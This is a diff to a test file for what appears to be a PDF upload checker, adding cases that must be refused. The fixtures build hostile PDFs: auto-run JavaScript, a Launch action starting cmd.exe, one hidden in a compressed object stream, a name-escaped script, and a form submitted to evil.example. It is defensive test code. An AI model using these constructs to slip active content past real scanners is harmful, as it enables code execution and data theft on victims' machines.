@@ -162,6 +162,42 @@ describe("a PDF", () => {
     expect(await refusal(await fixture(name), "transcript.pdf")).toBe(reason);
   });
 
+  const page = (more: string, objects = "") =>
+    Buffer.from(
+      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${more}>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n${objects}\ntrailer<</Root 1 0 R>>\n%%EOF`,
+    );
+  /** Objects in a compressed stream, which no search for a word in the file finds. */
+  const packed = (object: string, dictionary = "/Filter/FlateDecode") => {
+    const bytes = deflateSync(Buffer.from(`9 0 ${object}`)).toString("latin1");
+    return `8 0 obj<</Type/ObjStm/N 1/First 4/Length ${bytes.length}${dictionary}>>stream\n${bytes}\nendstream endobj`;
+  };
+  const latin = (pdf: Buffer) => Buffer.from(pdf.toString("utf8"), "latin1");
+  const ALERT = "<</S/JavaScript/JS(app.alert(1))>>";
+
+  test.each([
+    ["runs a script when it opens", page(`/OpenAction${ALERT}`)],
+    ["runs a script from its names", page(`/Names<</JavaScript<</Names[(a) ${ALERT}]>>>>`)],
+    ["runs a script with its name escaped", page("/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>")],
+    ["runs a script when a page opens", page("/AA<</WC 9 0 R>>", `9 0 obj${ALERT}endobj`)],
+    ["starts a program", page("/OpenAction<</S/Launch/F(cmd.exe)>>")],
+    ["starts a program from a packed object", latin(page("/OpenAction 9 0 R", packed("<</S/Launch/F(cmd.exe)>>")))],
+    ["sends a form away", page("/OpenAction<</S/SubmitForm/F(https://evil.example)>>")],
+  ])("a PDF that %s is refused", async (_, bytes) => {
+    expect(await refusal(bytes, "active.pdf")).toBe("file_pdf_active");
+  });
+
+  test("a PDF that hides objects in a way that we cannot read is refused", async () => {
+    const hidden = latin(page("", packed("<</S/Launch>>", "/Filter/LZWDecode")));
+    expect(await refusal(hidden, "hidden.pdf")).toBe("file_pdf_active");
+  });
+
+  test("may have links, and words about scripts", async () => {
+    const link = "<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(https://example.com/JS)>>>>";
+    expect(await check(page(`/Title(A /JavaScript course, /Launch)`, `7 0 obj${link}endobj`), "a.pdf")).toMatchObject({
+      pages: 1,
+    });
+  });
+
   test("a PDF without pages is refused", async () => {
     const empty = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n";
     const end = "trailer<</Root 1 0 R>>\n%%EOF";
